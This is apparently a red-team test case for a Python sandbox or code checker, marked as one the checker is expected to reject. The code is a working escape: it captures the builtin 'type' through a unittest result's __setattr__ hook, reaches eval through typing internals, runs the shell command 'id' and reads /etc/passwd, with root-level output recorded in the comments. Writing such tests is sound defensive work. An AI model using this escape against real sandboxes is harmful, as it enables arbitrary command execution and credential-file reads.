# expect: reject method
# line: 38
# verified: reaches its goal under plain python3 (3.11) in a temp dir (type, eval: id run, /etc/passwd read)
# why: fourteenth red team (14b), family T: the result's __setattr__ hook receives test.__class__, the builtin type

# Mechanism (section 3): unittest.TestSuite.run(result) stores `result._previousTestClass =
#   test.__class__`, `result._testRunEntered`, `result._moduleSetUpFailed` into the result object
#   the program handed it. A program result class defining `__setattr__` (a dunder-define hook)
#   receives each stored value; with a plain program class added as a "test", test.__class__ is
#   the builtin `type`, appended to a program list and called as a class constructor later.
# Goal reached: the builtin `type` as a value -> typing._GenericAlias -> eval (runs `id`) and
#   open (reads /etc/passwd).
# No dunder name is given to a builtin at run time (a def named __setattr__ is a hook the
#   interpreter calls; "__builtins__" is the typing alias's name= keyword as in earlier rounds).
# Output seen under python3 (3.11.7), in a fresh temp dir:
#   uid=0(root) gid=0(root) groups=0(root)
#   <built-in function eval>
#   root:x:0:0:root:/root:/bin/bash
#   daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
import unittest
import typing
import copy

GOT = []

class Res:
    shouldStop = False
    _moduleSetUpFailed = False

    def __setattr__(self, name, value):
        GOT.append(value)

class Plain:
    def __init__(self, result):
        self.r = result

s = unittest.TestSuite()
s.addTest(Plain)
s.run(Res())
T = [v for v in GOT if repr(v) == "<class 'type'>"][0]
Alias = T(typing.List[int])
ev = copy.deepcopy(Alias(int, ("eval",), name="__builtins__"))
print(ev)
ev("__import__('os').system('id')")
print(ev("open('/etc/passwd').read()")[:80])
